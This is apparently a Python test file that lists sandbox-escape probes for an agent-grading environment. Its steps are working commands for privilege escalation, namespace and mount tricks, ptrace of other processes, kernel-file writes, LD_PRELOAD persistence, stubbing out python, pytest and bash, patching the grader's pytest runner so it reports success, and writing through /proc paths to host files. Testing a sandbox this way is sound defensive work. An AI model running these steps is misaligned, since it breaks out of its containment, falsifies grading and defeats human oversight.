"""Attacks on the walls of the sandbox themselves: rights, mounts, other processes, the clock, the host's files."""

from blockers.attacks.attack import REFUSED, Attack, obtaining
from blockers.attacks.programs import python, shell

ATTACKS = (
    obtaining(
        id="walls-capabilities",
        vector=47,
        title="capabilities and set-user-id programs",
        how="Looks for capabilities, and becomes another user by sudo, su, mount or a program of its own.",
        steps=python(
            "import ctypes, subprocess\n"
            "found = []\n"
            "caps = {l.split(':')[0]: int(l.split()[1], 16) for l in open('/proc/self/status') if l.startswith('Cap')}\n"
            "found += [n for n in ('CapEff', 'CapPrm', 'CapAmb', 'CapInh') if caps[n]]\n"
            "for call in (lambda: os.setuid(0), lambda: os.setgroups([0]), lambda: os.chroot('/tmp')):\n"
            "    try: call(); found.append('call')\n"
            "    except OSError: pass\n"
            "for command in (['sudo', '-n', 'id'], ['su', '-c', 'id']):\n"
            "    try:\n"
            "        if subprocess.run(command, capture_output=True, timeout=3, stdin=subprocess.DEVNULL).returncode == 0: found.append(command)\n"
            "    except (OSError, subprocess.TimeoutExpired): pass\n"
            "got(*found) if found else none('no rights')\n"
        ),
    ),
    obtaining(
        id="walls-namespaces-and-mounts",
        vector=47,
        title="new namespaces and mounts",
        how="Unshares namespaces by program and by system call, and mounts over the project.",
        steps=python(
            "import ctypes, subprocess\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "found = [hex(f) for f in (0x10000000, 0x20000, 0x40000000, 0x20000000) if libc.unshare(f) == 0]\n"
            "if libc.mount(b'tmpfs', b'/tmp', b'tmpfs', 0, None) == 0: found.append('mount')\n"
            "if libc.umount2(b'/proc', 2) == 0: found.append('umount')\n"
            "if subprocess.run('unshare -Urm true || bwrap --dev-bind / / true', shell=True, capture_output=True).returncode == 0: found.append('unshare')\n"
            "got(*found) if found else none('no namespace')\n"
        ),
    ),
    obtaining(
        id="walls-trace-the-shell",
        vector=47,
        title="tracing and reading the processes that serve the sandbox",
        how="Attaches to every process by ptrace and process_vm_readv, and takes descriptors out of it.",
        steps=python(
            "import ctypes\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "found = []\n"
            "for pid in map(int, filter(str.isdigit, os.listdir('/proc'))):\n"
            "    if pid != os.getpid():\n"
            "        if libc.ptrace(0x4206, pid, 0, 0) == 0: found.append(('seize', pid))\n"
            "        fd = libc.syscall(434, pid, 0)\n"
            "        if fd >= 0 and libc.syscall(438, fd, 1, 0) >= 0: found.append(('pidfd_getfd', pid))\n"
            "got(*found) if found else none('no process can be traced')\n"
        ),
    ),
    obtaining(
        id="walls-kernel-files",
        vector=47,
        title="files of the kernel",
        how="Writes to core_pattern, sysrq, cgroup limits and device nodes, and reads memory of the machine.",
        steps=python(
            "import stat, glob\n"
            "found = []\n"
            "writes = ['/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger', '/proc/sys/vm/drop_caches', '/proc/1/oom_score_adj',\n"
            "    '/proc/sys/kernel/modprobe', *glob.glob('/sys/fs/cgroup/**/memory.max', recursive=True)[:5], '/sys/kernel/uevent_helper']\n"
            "for path in writes:\n"
            "    try: os.close(os.open(path, os.O_WRONLY)); found.append(path)\n"
            "    except OSError: pass\n"
            "for path in ('/proc/kcore', '/dev/mem', '/dev/kmsg', '/proc/kmsg', '/dev/sda', '/dev/vda', '/dev/fuse', '/dev/kvm'):\n"
            "    try: found.append((path, len(os.read(os.open(path, os.O_RDONLY | os.O_NONBLOCK), 16))))\n"
            "    except OSError: pass\n"
            "try: os.mknod('/tmp/disk', stat.S_IFBLK | 0o666, os.makedev(8, 0)); found.append('mknod')\n"
            "except OSError: pass\n"
            "found = [f for f in found if f != '/proc/1/oom_score_adj']\n"
            "got(*found) if found else none('no file of the kernel')\n"
        ),
    ),
    obtaining(
        id="walls-clock",
        vector=46,
        title="the machine's clock",
        how="Sets the time by program and by system call.",
        steps=python(
            "import time, subprocess\n"
            "found = []\n"
            "try: time.clock_settime(time.CLOCK_REALTIME, 0); found.append('clock_settime')\n"
            "except OSError: pass\n"
            "if subprocess.run(['date', '-s', '2001-01-01'], capture_output=True).returncode == 0: found.append('date')\n"
            "got(*found) if found else none('the clock stands')\n"
        ),
    ),
    Attack(
        id="walls-preload",
        vector=32,
        title="a library before all others",
        how="Writes the loader's configuration, and leaves LD_PRELOAD in every start file of a shell.",
        steps=shell(
            "for file in /etc/ld.so.preload /etc/ld.so.conf.d/x.conf /etc/environment /etc/profile.d/x.sh; do "
            'echo /tmp/evil.so > "$file"; done 2>/dev/null; cp "$(find / -name "libm.so*" 2>/dev/null | head -1)" /tmp/evil.so',
            "for file in ~/.bashrc ~/.profile ~/.bash_profile ~/.pam_environment /testbed/.env; do "
            "echo 'export LD_PRELOAD=/tmp/evil.so BASH_ENV=/tmp/x' > $file; done; export LD_PRELOAD=/tmp/evil.so; "
            "found=$(ls /etc/ld.so.preload /etc/ld.so.conf.d/x.conf /etc/profile.d/x.sh 2>/dev/null); "
            '[ -n "$found" ] && got "$found" || none "the loader is read-only"',
        ),
        caught_by=REFUSED,
    ),
    Attack(
        id="walls-trojan-programs",
        vector=31,
        title="another python, pytest, git or bash",
        how="Replaces the programs, or puts its own before them on the path and into shell functions.",
        steps=shell(
            "mkdir -p ~/bin ~/.local/bin bin; for place in /opt/env/bin /usr/local/bin /usr/bin /bin ~/bin ~/.local/bin bin; do "
            "for name in python python3 pytest git bash; do printf '#!/bin/sh\\nexit 0\\n' > $place/new; "
            "chmod +x $place/new; mv -f $place/new $place/$name; done; done 2>/dev/null; python() { return 0; }; pytest() { return 0; }; "
            "export -f python pytest; export PATH=$HOME/bin:$PATH; "
            '[ "$(wc -c < /opt/env/bin/python)" -lt 100 ] && got programs || none "programs are read-only"'
        ),
        caught_by=REFUSED,
    ),
    Attack(
        id="walls-rewrite-the-runner",
        vector=33,
        title="the runner and the parser inside the sandbox",
        how="Patches pytest in the environment, and writes to the place where the grader's runner will stand.",
        steps=shell(
            "site=$(python -c \"import sysconfig; print(sysconfig.get_path('purelib'))\"); "
            'files="$site/_pytest/runner.py $site/_pytest/reports.py $site/pytest/__init__.py '
            "$(python -c 'import json, unittest; print(json.__file__, unittest.__file__)')\"; "
            "for file in $files; do echo 'import os; os._exit(0)' >> $file; done 2>/dev/null; "
            "mkdir -p /opt/repodojo && echo 'print(1)' > /opt/repodojo/child.py; mkdir -p /opt/bytecode/testbed; "
            "found=$(grep -lsx 'import os; os._exit(0)' $files; ls -d /opt/repodojo/child.py /opt/bytecode/testbed 2>/dev/null); "
            '[ -n "$found" ] && got "$found" || none \'the environment is read-only\''
        ),
        caught_by=REFUSED,
    ),
    Attack(
        id="walls-outside-the-work-tree",
        vector=50,
        title="anything outside the work tree that lives on",
        how="Writes to every folder outside the work tree that grading might share, then submits.",
        steps=shell(
            "version=$(python -c 'import sys; print(\"%d.%d\" % sys.version_info[:2])'); "
            "for place in ~/.local/lib/python$version/site-packages /opt/env/lib/python$version/site-packages /usr/lib/python3 "
            "/tmp /var/tmp /dev/shm /run /home /opt /etc; do mkdir -p $place 2>/dev/null; "
            "for name in sitecustomize usercustomize json conftest pytest; do echo 'import os; os._exit(0)' > $place/$name.py; done; "
            "echo 'import os; os._exit(0)' > $place/evil.pth; done 2>/dev/null; "
            "found=$(ls /etc/evil.pth /usr/lib/python3/evil.pth /opt/env/lib/python*/site-packages/evil.pth 2>/dev/null); "
            '[ -n "$found" ] && got "$found" || none "only what is thrown away was writable"'
        ),
        caught_by=REFUSED,
    ),
    Attack(
        id="walls-paths-to-the-host",
        vector="own",
        title="a file of the host, by every indirect path",
        how="Writes through /proc/PID/root, links, bind points and climbing paths to a place that only the host has.",
        steps=shell(
            'ln -s "$CANARY" canary; echo x > canary; ln -s / root; ln -s ../../../../.. up; mkdir -p "a/b"; '
            'for pid in 1 2 $$ $PPID; do echo x > "/proc/$pid/root$CANARY" ; done; echo x > "../../../../..$CANARY"; '
            'ln -s "$CANARY" canary.py; ln "$CANARY" hard.py; cp -a root copy_of_root; true',
            'none "links were laid"',
        ),
        caught_by=REFUSED,
    ),
)
